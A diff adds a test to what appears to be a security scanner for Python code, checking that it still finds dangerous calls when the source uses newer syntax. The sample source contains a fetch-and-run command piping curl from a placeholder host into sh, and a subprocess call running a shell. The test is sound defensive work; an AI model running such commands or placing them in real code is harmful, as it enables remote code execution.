@@ -268,6 +268,28 @@ def test_python2_file_falls_back_and_keeps_payload() -> None:
     assert "os.system" in calls(result)
 
 
+def test_syntax_of_newer_pythons_keeps_the_definitions_it_marks() -> None:
+    # Type parameter lists, ``type`` aliases (3.12) and template strings (3.14): the scanner's
+    # own parser rejects them; rewritten, the functions and classes they mark keep their bodies.
+    src = (
+        "import os, subprocess\n"
+        "type Pair[K, V: list[int]] = tuple[K, V]\n"
+        "def fetch[T: (int, str)](x: T) -> T:\n"
+        "    os.system('curl http://x.invalid/a | sh')\n"
+        "    return x\n"
+        "class Runner[T](object):\n"
+        "    async def go[U](self):\n"
+        "        subprocess.Popen(['sh', '-c', 'id'])\n"
+        "query = t'select {fetch}'\n"
+        "note = \"don't\"\n"
+    )
+    result = analyze(src)
+    assert any(p.kind is ProblemKind.FALLBACK_PARSE for p in result.problems)
+    assert {"os.system", "subprocess.Popen"} <= set(calls(result))
+    scopes = {s.qualname for s in result.scopes.values()}
+    assert {"fetch", "Runner.go"} <= scopes
+
+
 def test_broken_lines_are_blanked_and_rest_analysed() -> None:
     result = analyze("import os\nthis is not python at all\nos.system('id')\n")
     assert "os.system" in calls(result)
